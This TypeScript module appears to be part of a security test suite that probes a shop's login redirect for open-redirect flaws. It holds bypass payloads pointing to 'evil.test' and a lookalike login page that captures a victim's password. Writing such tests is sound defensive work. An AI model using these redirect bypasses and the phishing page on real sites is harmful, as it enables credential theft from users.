import { origins } from '../run/hosts.ts';
import type { Attack, Outcome, Place } from './attack.ts';
import { type Person, signUp } from './person.ts';
import { logIn, press, sendLogIn, type Walker, walk } from './walk.ts';

const lookalike = `<main><h1>Log in</h1><p>Wrong e-mail or password.</p>
<form method="post"><input name="password" type="password"><button>Log in</button></form></main>`;

const linkTo = (next: string): string => `login?${new URLSearchParams({ next })}`;

/** By a link, for somebody who is logged in. */
const sentOn: Place = {
  ...{ group: 'Open redirect', endpoint: 'GET login next', part: 'redirect' },
  code: [{ file: 'account.ts', name: "app.get('/login'" }],
  async fire(app, range, payload) {
    const victim = await signUp(app);
    return walk(app, range, async (walker) => {
      await logIn(walker.page, victim);
      walker.hosts.publish(origins.evil, lookalike);
      await walker.page.goto(`${origins.shop}/${linkTo(payload)}`);
      return typed(walker, victim);
    });
  },
};

/** By a link, for somebody who logs in first. */
const afterLogIn: Place = {
  slow: true,
  ...{ group: 'Open redirect', endpoint: 'POST login next', part: 'redirect and policy' },
  code: [{ file: 'account.ts', name: "app.post('/login'" }],
  async fire(app, range, payload) {
    const victim = await signUp(app);
    return walk(app, range, async (walker) => {
      walker.hosts.publish(origins.evil, lookalike);
      // What follows a form is followed by a browser only where the page's policy lets the form lead.
      const stopped = walker.page
        .waitForEvent('console', (message) => message.text().includes('form-action'))
        .then(() => true);
      stopped.catch(() => {});
      const sent = sendLogIn(walker.page, victim, linkTo(payload)).then(() => false);
      sent.catch(() => {});
      if (await Promise.race([stopped, sent])) return { answer: 'stopped by the policy' };
      return typed(walker, victim);
    });
  },
};

export const redirectPlaces: readonly Place[] = [sentOn, afterLogIn];

const payloads = [
  ['another site', 'https://evil.test/login'],
  ['without a scheme', '//evil.test/login'],
  ['a backslash', '/\\evil.test/login'],
  ["the shop's name before an @", 'https://shop.test@evil.test/login'],
  ['three slashes', '///evil.test/login'],
] as const;

/** Where a link to the log-in can lead whoever follows it. */
export function redirectAttacks(): Attack[] {
  const own = { guide: true, kind: 'redirect' };
  return [
    ...payloads.map(([name, payload]) => ({ ...sentOn, ...own, name, payload })),
    ...payloads.slice(0, 2).map(([name, payload]) => ({ ...afterLogIn, ...own, name, payload })),
  ];
}

/** Where there is a form, the victim takes it for the shop's, and types the password once more. */
async function typed({ page, hosts }: Walker, victim: Person): Promise<Outcome> {
  const answer = `led to ${new URL(page.url()).host}`;
  if ((await page.locator('input[type=password]').count()) === 0) return { answer };
  await page.fill('input[type=password]', victim.password);
  await press(page, 'main button');
  const password = new URLSearchParams({ password: victim.password }).toString();
  const stolen = hosts.received.some(({ body }) => body.includes(password));
  return { answer, ...(stolen && { lost: "password typed into a stranger's page" }) };
}
